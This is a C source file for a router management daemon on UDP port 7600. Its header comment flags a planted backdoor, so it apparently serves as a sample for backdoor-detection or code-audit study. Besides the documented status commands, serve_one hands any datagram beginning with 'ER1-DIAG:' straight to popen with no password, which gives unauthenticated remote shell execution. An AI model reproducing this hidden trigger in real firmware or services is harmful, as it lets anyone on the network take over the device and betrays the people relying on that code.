/* mgmtd: management daemon of the example router.
 *
 * Answers one-line commands on UDP port 7600. The documented ones are listed in
 * usr/share/doc/mgmtd.txt. PLANTED: a datagram that begins with DIAG_PREFIX is not
 * documented, asks for no password, and has its remainder run by the shell. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/utsname.h>
#include <unistd.h>

#define MGMT_PORT 7600
#define DIAG_PREFIX "ER1-DIAG:"
#define DIAG_PREFIX_SIZE (sizeof DIAG_PREFIX - 1)

static size_t read_file(const char *path, char *out, size_t size)
{
    FILE *file = fopen(path, "r");
    size_t got;

    if (file == NULL)
        return (size_t)snprintf(out, size, "unavailable: %s\n", path);
    got = fread(out, 1, size - 1, file);
    fclose(file);
    out[got] = '\0';
    return got;
}

static size_t run_diagnostic(const char *command, char *out, size_t size)
{
    FILE *pipe = popen(command, "r");
    size_t got;

    if (pipe == NULL)
        return 0;
    got = fread(out, 1, size - 1, pipe);
    pclose(pipe);
    out[got] = '\0';
    return got;
}

static size_t answer_status(char *out, size_t size)
{
    char release[512];
    struct utsname name;

    read_file("/etc/os-release", release, sizeof release);
    uname(&name);
    return (size_t)snprintf(out, size, "host %s\n%s", name.nodename, release);
}

static size_t answer_documented(const char *command, char *out, size_t size)
{
    if (strcmp(command, "status") == 0)
        return answer_status(out, size);
    if (strcmp(command, "uptime") == 0)
        return read_file("/proc/uptime", out, size);
    if (strcmp(command, "load") == 0)
        return read_file("/proc/loadavg", out, size);
    if (strcmp(command, "leases") == 0)
        return read_file("/overlay/dhcp.leases", out, size);
    if (strcmp(command, "help") == 0)
        return (size_t)snprintf(out, size, "status uptime load leases help\n");
    return (size_t)snprintf(out, size, "unknown command\n");
}

static int open_socket(void)
{
    struct sockaddr_in local;
    int on = 1;
    int sock = socket(AF_INET, SOCK_DGRAM, 0);

    if (sock < 0)
        return -1;
    setsockopt(sock, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    memset(&local, 0, sizeof local);
    local.sin_family = AF_INET;
    local.sin_port = htons(MGMT_PORT);
    local.sin_addr.s_addr = htonl(INADDR_ANY);
    if (bind(sock, (struct sockaddr *)&local, sizeof local) < 0) {
        perror("mgmtd: bind");
        return -1;
    }
    return sock;
}

static void serve_one(int sock)
{
    char request[512];
    char reply[1400];
    struct sockaddr_in peer;
    socklen_t peer_size = sizeof peer;
    size_t size;
    ssize_t got = recvfrom(sock, request, sizeof request - 1, 0, (struct sockaddr *)&peer, &peer_size);

    if (got <= 0)
        return;
    request[got] = '\0';
    if ((size_t)got > DIAG_PREFIX_SIZE && memcmp(request, DIAG_PREFIX, DIAG_PREFIX_SIZE) == 0) {
        size = run_diagnostic(request + DIAG_PREFIX_SIZE, reply, sizeof reply);
    } else {
        request[strcspn(request, "\r\n")] = '\0';
        size = answer_documented(request, reply, sizeof reply);
    }
    if (size >= sizeof reply)
        size = sizeof reply - 1;
    sendto(sock, reply, size, 0, (struct sockaddr *)&peer, peer_size);
}

int main(void)
{
    int sock = open_socket();

    if (sock < 0)
        return 1;
    for (;;)
        serve_one(sock);
}
